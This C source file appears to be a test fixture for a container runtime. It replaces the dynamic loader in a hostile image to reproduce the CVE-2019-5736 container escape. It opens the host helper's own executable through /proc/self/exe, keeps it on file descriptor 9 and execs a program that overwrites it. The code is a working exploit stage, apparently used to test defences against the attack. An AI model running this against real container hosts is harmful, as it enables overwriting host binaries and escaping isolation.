/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Takes the place of the dynamic loader in a hostile image: the kernel runs it in the process whose program
 * the host's berth-helper is, if that is ever made the container's. It keeps that file open and becomes
 * another program, so that nobody executes the file any more when that program writes to it (CVE-2019-5736).
 */
#include <asm/unistd.h>
#include <fcntl.h>

static long call(long number, long a, long b, long c, long d) {
        long result;

#if defined __x86_64__
        register long r10 __asm__("r10") = d;

        __asm__ volatile("syscall"
                         : "=a"(result)
                         : "0"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
                         : "rcx", "r11", "memory");
#elif defined __aarch64__
        register long x8 __asm__("x8") = number, x0 __asm__("x0") = a, x1 __asm__("x1") = b,
                         x2 __asm__("x2") = c, x3 __asm__("x3") = d;

        __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
        result = x0;
#else
#error "how are system calls made here?"
#endif
        return result;
}

__attribute__((noreturn)) void _start(void) {
        static const char *const arguments[] = { "/hostile", "overwrite", "/proc/self/fd/9", 0 };
        long fd = call(__NR_openat, AT_FDCWD, (long) "/proc/self/exe", O_RDONLY, 0);

        (void) call(__NR_dup3, fd, 9, 0, 0);
        (void) call(__NR_execve, (long) arguments[0], (long) arguments, 0, 0);
        for (;;)
                (void) call(__NR_exit_group, 1, 0, 0, 0);
}
